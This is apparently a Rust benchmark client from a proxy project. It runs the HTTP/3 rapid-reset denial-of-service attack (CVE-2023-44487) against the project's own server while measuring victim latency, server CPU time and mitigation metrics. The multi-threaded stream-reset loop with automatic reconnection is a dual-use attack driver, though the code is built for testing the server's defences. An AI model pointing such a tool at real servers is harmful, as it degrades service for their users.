//! `rapid_reset`: the HTTP/3 rapid-reset attack (CVE-2023-44487) as a
//! measuring client. Attacker threads open request streams and reset each in
//! the next packet, as fast as stream credit allows, reconnecting whenever
//! the server closes a connection; a victim thread meanwhile sends plain GETs
//! and records their latency. With `--admin` it reads spooky's `/metrics`
//! before and after to tell how many reset streams were dispatched towards a
//! backend; with `--pid` it reports the server's CPU time.
//!
//! Example: `rapid_reset --addr 127.0.0.1:8443 --admin 127.0.0.1:9901 --pid $(pidof spooky) -d 10`

#[path = "../../../tests/common/h3client.rs"]
#[allow(clippy::unwrap_used)]
mod h3client;

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use clap::Parser;
use h3client::{H3Client, Request};

#[derive(Parser)]
#[command(about = "HTTP/3 rapid-reset attack client with victim latency")]
struct Args {
    /// Server address (ip:port).
    #[arg(long, default_value = "127.0.0.1:8443")]
    addr: SocketAddr,
    /// Authority sent in `:authority`.
    #[arg(long, default_value = "localhost")]
    authority: String,
    /// Attack duration in seconds.
    #[arg(short = 'd', long, default_value_t = 10)]
    duration: u64,
    /// Attacking connections at a time (one thread each).
    #[arg(short = 'c', long, default_value_t = 1)]
    clients: usize,
    /// Path the reset requests name.
    #[arg(long, default_value = "/")]
    path: String,
    /// spooky's admin address, to read `/metrics` before and after.
    #[arg(long)]
    admin: Option<SocketAddr>,
    /// spooky's pid, to report its CPU time during the attack.
    #[arg(long)]
    pid: Option<u32>,
}

/// Reset streams sent per `open_and_reset` call between checks of the clock.
const BURST: usize = 100;

fn main() {
    let args = Args::parse();
    let stop = Arc::new(AtomicBool::new(false));
    let resets = Arc::new(AtomicU64::new(0));
    let connections = Arc::new(AtomicU64::new(0));
    let before = args.admin.map(scrape);
    let cpu_before = args.pid.and_then(cpu_seconds);
    let started = Instant::now();
    let attackers: Vec<_> = (0..args.clients)
        .map(|_| {
            let (stop, resets, conns) = (stop.clone(), resets.clone(), connections.clone());
            let (addr, authority, path) = (args.addr, args.authority.clone(), args.path.clone());
            std::thread::spawn(move || attack(addr, &authority, &path, &stop, &resets, &conns))
        })
        .collect();
    let victim = {
        let (stop, addr, authority) = (stop.clone(), args.addr, args.authority.clone());
        std::thread::spawn(move || victim(addr, &authority, &stop))
    };
    std::thread::sleep(Duration::from_secs(args.duration));
    stop.store(true, Ordering::Relaxed);
    for a in attackers {
        let _ = a.join();
    }
    let mut lat = victim.join().unwrap_or_default();
    let secs = started.elapsed().as_secs_f64();
    let sent = resets.load(Ordering::Relaxed);
    println!(
        "reset streams: {sent} in {secs:.1}s ({:.0}/s) over {} connections",
        sent as f64 / secs,
        connections.load(Ordering::Relaxed)
    );
    if let (Some(admin), Some(before)) = (args.admin, before) {
        report_metrics(&before, &scrape(admin), sent);
    }
    if let (Some(pid), Some(c0)) = (args.pid, cpu_before) {
        if let Some(c1) = cpu_seconds(pid) {
            println!(
                "server CPU: {:.2}s, {:.0}% of a core, {:.1} us per reset stream",
                c1 - c0,
                (c1 - c0) / secs * 100.0,
                (c1 - c0) / sent.max(1) as f64 * 1e6
            );
        }
    }
    lat.sort();
    let pct = |p: f64| {
        let i = ((lat.len().max(1) - 1) as f64 * p).round() as usize;
        lat.get(i).map_or(0.0, |d| d.as_secs_f64() * 1000.0)
    };
    println!(
        "victim: {} GETs, p50 {:.2} ms, p99 {:.2} ms, max {:.2} ms",
        lat.len(),
        pct(0.5),
        pct(0.99),
        pct(1.0)
    );
}

/// Opens and resets streams until told to stop, reconnecting when the
/// server closes the connection.
fn attack(
    addr: SocketAddr,
    authority: &str,
    path: &str,
    stop: &AtomicBool,
    resets: &AtomicU64,
    conns: &AtomicU64,
) {
    let req = Request::get(path);
    while !stop.load(Ordering::Relaxed) {
        let Ok(mut c) = H3Client::connect(addr, authority) else {
            std::thread::sleep(Duration::from_millis(10));
            continue;
        };
        conns.fetch_add(1, Ordering::Relaxed);
        c.timeout = Duration::from_secs(2);
        while !stop.load(Ordering::Relaxed) {
            match c.open_and_reset(&req, BURST) {
                Ok(n) => resets.fetch_add(n as u64, Ordering::Relaxed),
                Err(_) => break, // closed (H3_EXCESSIVE_LOAD) or stalled: reconnect
            };
        }
    }
}

/// Sequential GETs on one connection; their latencies.
fn victim(addr: SocketAddr, authority: &str, stop: &AtomicBool) -> Vec<Duration> {
    let mut out = Vec::new();
    let Ok(mut c) = H3Client::connect(addr, authority) else {
        eprintln!("rapid_reset: victim could not connect");
        return out;
    };
    while !stop.load(Ordering::Relaxed) {
        let t = Instant::now();
        if c.get("/").is_ok() {
            out.push(t.elapsed());
        }
        std::thread::sleep(Duration::from_millis(5));
    }
    out
}

/// The admin `/metrics` text (empty on error).
fn scrape(admin: SocketAddr) -> String {
    let mut body = String::new();
    if let Ok(mut s) = TcpStream::connect(admin) {
        let _ = s.write_all(b"GET /metrics HTTP/1.1\r\nHost: admin\r\nConnection: close\r\n\r\n");
        let _ = s.read_to_string(&mut body);
    }
    body
}

/// Sum of every series of `name` in a metrics text.
fn metric(text: &str, name: &str) -> f64 {
    text.lines()
        .filter(|l| {
            l.strip_prefix(name)
                .is_some_and(|r| r.starts_with(' ') || r.starts_with('{'))
        })
        .filter_map(|l| l.rsplit(' ').next()?.parse::<f64>().ok())
        .sum()
}

/// The change of the series of `name` whose labels contain `label`.
fn delta_labelled(before: &str, after: &str, name: &str, label: &str) -> f64 {
    let pick = |text: &str| {
        let only: String = text
            .lines()
            .filter(|l| l.contains(label))
            .collect::<Vec<_>>()
            .join("\n");
        metric(&only, name)
    };
    pick(after) - pick(before)
}

fn report_metrics(before: &str, after: &str, sent: u64) {
    let delta = |n: &str| metric(after, n) - metric(before, n);
    let skipped = delta("spooky_requests_cancelled_before_dispatch_total");
    // Victim GETs are picked too; they are few and printed separately.
    let picks = delta("spooky_balancer_picks_total");
    let share = |x: f64| x / (sent.max(1) as f64) * 100.0;
    println!(
        "never dispatched: {skipped} ({:.1}%); backend picks (attack + victim): {picks} ({:.1}%)",
        share(skipped),
        share(picks)
    );
    println!(
        "connections closed for abandoned streams: {}; Initials refused for abandoned streams: {}",
        delta("spooky_quic_abandoned_stream_closes_total"),
        delta_labelled(
            before,
            after,
            "spooky_quic_datagrams_dropped_total",
            "abandoned_streams"
        )
    );
}

/// utime + stime of `pid` in seconds, from /proc (clock ticks of 100 Hz).
fn cpu_seconds(pid: u32) -> Option<f64> {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
    let rest = stat.rsplit_once(')')?.1;
    let fields: Vec<&str> = rest.split_whitespace().collect();
    let utime: f64 = fields.get(11)?.parse().ok()?;
    let stime: f64 = fields.get(12)?.parse().ok()?;
    Some((utime + stime) / 100.0)
}
